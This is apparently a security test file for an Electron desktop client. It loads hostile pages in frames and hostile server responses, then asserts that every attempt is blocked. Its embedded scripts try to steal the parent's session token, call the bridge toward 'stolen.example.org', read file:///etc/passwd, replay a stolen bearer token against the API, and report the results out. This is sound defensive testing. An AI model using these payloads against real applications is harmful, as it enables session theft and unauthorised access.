/**
 * A hostile page in a frame of the portal and hostile responses of a server, on the real runtime: they can access
 * nothing on the machine.
 */
import { once } from 'node:events';
import { createServer, request, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readdir, stat } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { whyNoElectron } from '../../scripts/electron-runtime.ts';
import type { Page } from 'playwright-core';
import { clientPortal, type ClientPortal } from './support/client-portal.ts';
import { addServer, signIn, type Bridged } from './support/pages.ts';
import { createMachine, type Client, type Machine } from './support/runtime.ts';

const missing = whyNoElectron();

/** Returns what a frame could read, without refused requests. */
const contentOf = (read: Record<string, string>): [string, string][] =>
  Object.entries(read).filter(([, answer]) => !['refused', 'opaque', '403', '0'].includes(answer));

/** Attempts of a page in a frame; it sends the results to its own server. */
const FRAME = `<!doctype html><title>hostile</title><script>
  const attempt = async (work) => { try { return String(await work()); } catch (error) { return 'refused: ' + error.name; } };
  (async () => {
    const found = {
      node: typeof require + typeof process + typeof module,
      bridge: typeof window.runsheet + typeof window.runsheetServers,
      parentBridge: await attempt(() => window.parent.runsheet.openExternal('https://stolen.example.org')),
      parentStore: await attempt(() => window.parent.localStorage.getItem('runsheet.session')),
      file: await attempt(async () => (await fetch('file:///etc/passwd')).status),
      notifications: await attempt(() => Notification.requestPermission()),
      clipboard: await attempt(() => navigator.clipboard.readText()),
      camera: await attempt(() => navigator.mediaDevices.getUserMedia({ video: true })),
    };
    await fetch('/found', { method: 'POST', body: JSON.stringify(found) });
    window.open('file:///etc/passwd');
    window.open('runsheet://servers/choose');
    try { window.top.location = 'file:///etc/passwd'; } catch {}
    try { window.top.location = '/gone'; } catch {}
    location = 'file:///etc/passwd';
    await fetch('/tried', { method: 'POST', body: '' });
  })();
</script>`;

/**
 * Calls to the portal by a page in a frame, in every way available to a page. It sends what it could read to its own
 * server.
 */
const CALLER = `<!doctype html><title>calling</title><body><script>
  const app = 'runsheet://app';
  const from = '?from=frame';
  const stolen = { authorization: 'Bearer ' + decodeURIComponent(location.hash.slice(1)), 'content-type': 'application/json' };
  const form = new URLSearchParams({ grant_type: 'password', username: 'admin', password: 'guessed' });
  const read = async (path, init, tail = '') => {
    try {
      const answer = await fetch(app + path + from + tail, init);
      return answer.type === 'opaque' ? 'opaque' : answer.status + (await answer.text());
    } catch (error) { return 'refused'; }
  };
  const upload = () => new Promise((resolve) => {
    const call = new XMLHttpRequest();
    call.onloadend = () => resolve(call.status + call.responseText);
    try {
      call.open('POST', app + '/api/files/upload' + from);
      call.send(new FormData());
    } catch { resolve('refused'); }
  });
  const loaded = (tag, attributes) => new Promise((resolve) => {
    const element = Object.assign(document.createElement(tag), attributes);
    element.onload = element.onerror = resolve;
    document.body.append(element);
  });
  const sent = (method) => {
    const frame = Object.assign(document.createElement('iframe'), { name: 'sent' + method });
    const form = Object.assign(document.createElement('form'), { method, action: app + '/token' + from, target: frame.name });
    form.append(Object.assign(document.createElement('input'), { name: 'from', value: 'frame' }));
    document.body.append(frame, form);
    form.submit();
  };
  (async () => {
    const found = {};
    found.get = await read('/api/settings');
    found.getAsPerson = await read('/api/users/current', { headers: stolen });
    found.post = await read('/api/users/profile', { method: 'POST', headers: stolen, body: '[]' });
    found.put = await read('/api/users/profile', { method: 'PUT', headers: stolen, body: '[]' });
    found.delete = await read('/api/activities/1', { method: 'DELETE', headers: stolen });
    found.password = await read('/token', { method: 'POST', body: form });
    found.opaqueGet = await read('/api/settings', { mode: 'no-cors' });
    found.opaquePost = await read('/token', { method: 'POST', mode: 'no-cors', body: form });
    found.guessed = await read('/api/settings', {}, '&page-key=' + 'A'.repeat(43));
    found.upload = await upload();
    try { navigator.sendBeacon(app + '/token' + from, form); } catch {}
    await loaded('img', { src: app + '/api/settings/logo/1' + from });
    await loaded('script', { src: app + '/api/settings' + from });
    document.body.append(Object.assign(document.createElement('iframe'), { src: app + '/api/settings' + from }));
    sent('get');
    sent('post');
    Object.assign(document.createElement('a'), { href: app + '/api/docs/json' + from, download: 'x.json', target: 'sentget' }).click();
    await fetch('/called', { method: 'POST', body: JSON.stringify(found) });
  })();
</script>`;

const LARGE = 8_000_000;
const PICTURE = Buffer.from('R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==', 'base64');

describe.skipIf(missing !== '')('what comes from a server', () => {
  let portal: ClientPortal;
  let machine: Machine;
  let client: Client;
  let hostile: Server;
  let address: string;
  const received = new Map<string, string>();
  /** A frame's calls that reached the server. */
  const called: string[] = [];
  /** Sends the rest of the large file. */
  let sendRest = (): void => undefined;

  /** A proxy server in front of the portal with arbitrary responses. Behind it, the portal has no base path. */
  async function answer(call: IncomingMessage, response: ServerResponse): Promise<void> {
    const path = call.url ?? '/';
    if (path === '/frame') return void response.setHeader('content-type', 'text/html').end(FRAME);
    if (path === '/empty') return void response.setHeader('content-type', 'text/html').end('<!doctype html>');
    if (path === '/caller') return void response.setHeader('content-type', 'text/html').end(CALLER);
    if (path.includes('from=')) called.push(`${call.method} ${path}`);
    if (['/found', '/tried', '/called'].includes(path)) {
      let body = '';
      for await (const chunk of call) body += String(chunk);
      received.set(path, body);
      return void response.end();
    }
    if (path === '/api/picture') return void response.setHeader('content-type', 'image/gif').end(PICTURE);
    if (path === '/api/leads') return void response.writeHead(302, { location: 'file:///etc/passwd' }).end();
    if (path === '/api/cookie') return void response.setHeader('set-cookie', 'a=b; Path=/').end('{}');
    if (path === '/api/large') {
      const headers = { 'content-disposition': 'attachment; filename="large.bin"', 'content-length': LARGE };
      response.writeHead(200, { ...headers, 'content-type': 'application/octet-stream' });
      response.write(Buffer.alloc(LARGE / 4));
      sendRest = () => response.end(Buffer.alloc((LARGE / 4) * 3));
      return;
    }
    if (path === '/api/page') {
      return void response.setHeader('content-type', 'text/html').end('<script>document.title = "scripted"</script>');
    }
    const { port, hostname, pathname } = new URL(portal.address);
    const onward = request(
      { port, hostname, path: pathname + path.slice(1), method: call.method, headers: call.headers },
      (found) => {
        const policy = `frame-src ${address.slice(0, -1)} file: data: runsheet:; script-src *`;
        response.writeHead(found.statusCode!, { ...found.headers, 'content-security-policy': policy });
        found.pipe(response);
      },
    );
    call.pipe(onward);
  }

  beforeAll(async () => {
    [portal, machine] = await Promise.all([clientPortal(), createMachine()]);
    hostile = createServer((call, response) => void answer(call, response)).listen(0, '127.0.0.1');
    await once(hostile, 'listening');
    address = `http://127.0.0.1:${(hostile.address() as AddressInfo).port}/`;
    client = await machine.start();
    const page = await addServer(client, address);
    await page.getByLabel('Username').waitFor();
  });
  afterAll(async () => {
    await client?.close();
    await machine?.remove();
    hostile?.closeAllConnections();
    hostile?.close();
  });

  test('windows are isolated, in the sandbox, and have none of the features that open a door', async () => {
    const preferences = await client.app.evaluate(({ BrowserWindow }) =>
      BrowserWindow.getAllWindows().map(({ webContents }) => {
        const given = (
          webContents as unknown as { getLastWebPreferences(): Record<string, unknown> }
        ).getLastWebPreferences();
        const names = [
          'contextIsolation',
          'sandbox',
          'nodeIntegration',
          'nodeIntegrationInSubFrames',
          'webSecurity',
          'webviewTag',
        ];
        const off = [
          'allowRunningInsecureContent',
          'experimentalFeatures',
          'enableBlinkFeatures',
          'nodeIntegrationInWorker',
        ];
        return [names.map((name) => given[name]), off.map((name) => Boolean(given[name]))];
      }),
    );
    expect(preferences).toEqual([
      [
        [true, true, false, false, true, false],
        [false, false, false, false],
      ],
    ]);
  });

  test('a server has no say in where the scripts of a page come from, nor in what frames beyond origins of the web', async () => {
    const page = await client.window('app');
    const policy = await page.evaluate(async () => (await fetch('/')).headers.get('content-security-policy'));
    expect(policy).toContain("script-src 'self';");
    expect(policy).toContain(`frame-src ${address.slice(0, -1)};`);
  });

  test('a page in a frame gets neither the bridge nor the session, and leads nowhere', async () => {
    const page = await client.window('app');
    const before = page.url();
    await page.evaluate((src) => {
      const frame = document.createElement('iframe');
      frame.src = src;
      document.body.append(frame);
    }, `${address}frame`);
    await expect.poll(() => received.has('/tried')).toBe(true);
    expect(JSON.parse(received.get('/found')!)).toEqual({
      node: 'undefinedundefinedundefined',
      bridge: 'undefinedundefined',
      parentBridge: expect.stringContaining('refused'),
      parentStore: expect.stringContaining('refused'),
      file: expect.stringContaining('refused'),
      notifications: 'denied',
      clipboard: expect.stringContaining('refused'),
      camera: expect.stringContaining('refused'),
    });
    expect(page.url()).toBe(before);
    expect(client.app.windows()).toHaveLength(1);
    expect(await client.openedOutside()).toEqual([]);
  });

  /**
   * Loads a frame and makes a call after all attempts of another frame; those attempts have then reached the server.
   */
  async function overtake(page: Page): Promise<void> {
    await page.evaluate(async (src) => {
      const frame = Object.assign(document.createElement('iframe'), { src });
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
      document.body.append(frame);
      await loaded;
      await fetch((window as unknown as Bridged).runsheet.addressOf('api/settings'));
    }, `${address}empty`);
  }

  /** Loads a frame that makes its calls with a token it may have stolen; returns what it read. */
  async function callFromFrame(page: Page, stolen: string): Promise<Record<string, string>> {
    received.delete('/called');
    await page.evaluate(
      (src) => {
        const frame = document.createElement('iframe');
        frame.src = src;
        document.body.append(frame);
      },
      `${address}caller#${encodeURIComponent(stolen)}`,
    );
    await expect.poll(() => received.has('/called')).toBe(true);
    await overtake(page);
    return JSON.parse(received.get('/called')!) as Record<string, string>;
  }

  test('a page in a frame makes no call of the portal: none reaches the server, and it reads no answer', async () => {
    const read = await callFromFrame(await client.window('app'), 'handle-of-nobody');
    expect([called, contentOf(read)]).toEqual([[], []]);
  });

  test('nor in a window that is signed in, though it knew what the page holds of the session; the page itself calls', async () => {
    const page = await client.window('app');
    await signIn(page, await portal.createPerson());
    const stolen = await page.evaluate(
      () => (JSON.parse(localStorage.getItem('runsheet.session') ?? '{}') as { token: string }).token,
    );
    expect(stolen).toMatch(/^handle-/);
    const read = await callFromFrame(page, stolen);
    expect([called, contentOf(read)]).toEqual([[], []]);
    expect(await readdir(machine.downloads)).toEqual([]);
    await page.evaluate(() => {
      const { runsheet } = window as unknown as Bridged;
      return fetch(runsheet.addressOf('api/settings?from=page'));
    });
    expect(called.splice(0)).toEqual(['GET /api/settings?from=page']);
  });

  test('a page shows pictures of its server by the addresses that its bridge makes, and by no others', async () => {
    const page = await client.window('app');
    const shown = await page.evaluate(() => {
      const { runsheet } = window as unknown as Bridged;
      const load = (src: string): Promise<string> =>
        new Promise((resolve) => {
          const image = new Image();
          image.addEventListener('load', () => resolve('shown'));
          image.addEventListener('error', () => resolve('refused'));
          image.src = src;
        });
      return Promise.all([load(runsheet.addressOf('api/picture')), load('/api/picture')]);
    });
    expect(shown).toEqual(['shown', 'refused']);
  });

  test('an answer leads nowhere, sets no cookie and runs no script', async () => {
    const page = await client.window('app');
    const found = await page.evaluate(async () => {
      const { runsheet } = window as unknown as Bridged;
      const leads = await fetch(runsheet.addressOf('api/leads')).then(
        ({ status }) => String(status),
        () => 'refused',
      );
      await fetch(runsheet.addressOf('api/cookie'));
      const frame = document.createElement('iframe');
      frame.src = runsheet.addressOf('api/page');
      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
      document.body.append(frame);
      await loaded;
      let title = 'nothing of it';
      try {
        title = frame.contentDocument?.title ?? title;
      } catch {
        // The page has another origin, like a refused one.
      }
      return { leads, cookie: document.cookie, title };
    });
    expect(found).toMatchObject({ cookie: '', title: expect.not.stringContaining('scripted') });
    expect(['302', '0', 'refused']).toContain(found.leads);
    const cookies = await client.app.evaluate(async ({ BrowserWindow }) =>
      BrowserWindow.getAllWindows()[0]!.webContents.session.cookies.get({}),
    );
    expect(cookies).toEqual([]);
    expect(await readdir(machine.downloads)).toEqual([]);
  });

  test('of a file that is downloaded the bar of tasks shows how far it is', async () => {
    await client.app.evaluate(({ BrowserWindow }) => {
      const bars: number[] = [];
      Object.assign(globalThis, { bars });
      BrowserWindow.getAllWindows()[0]!.setProgressBar = (part) => void bars.push(part);
    });
    const bars = () => client.app.evaluate(() => (globalThis as unknown as { bars: number[] }).bars);
    await (
      await client.window('app')
    ).evaluate(() => {
      const href = (window as unknown as Bridged).runsheet.addressOf('api/large');
      Object.assign(document.createElement('a'), { href, download: '' }).click();
    });
    await expect.poll(bars).toContainEqual(expect.toSatisfy((part: number) => part > 0.1 && part < 0.3));
    sendRest();
    await expect.poll(async () => (await bars()).at(-1)).toBe(-1);
    const { size } = await stat(join(machine.downloads, 'large.bin'));
    expect(size).toBe(LARGE);
  });

  test('a call that is opened as a page does not reach the server, runs nothing and has nothing of the person', async () => {
    const page = await client.window('app');
    await page.evaluate(() => window.location.assign('/api/page?from=frame'));
    await page.waitForURL('**/api/page?from=frame');
    expect(called).toEqual([]);
    expect(await page.title()).not.toBe('scripted');
    expect(await page.evaluate(() => window.origin)).toBe('null');
    const stored = await page.evaluate(() => String(localStorage.length)).catch(() => 'refused');
    expect(stored).toBe('refused');
    await page.evaluate(() => window.location.assign('runsheet://app/')).catch(() => undefined);
  });
});
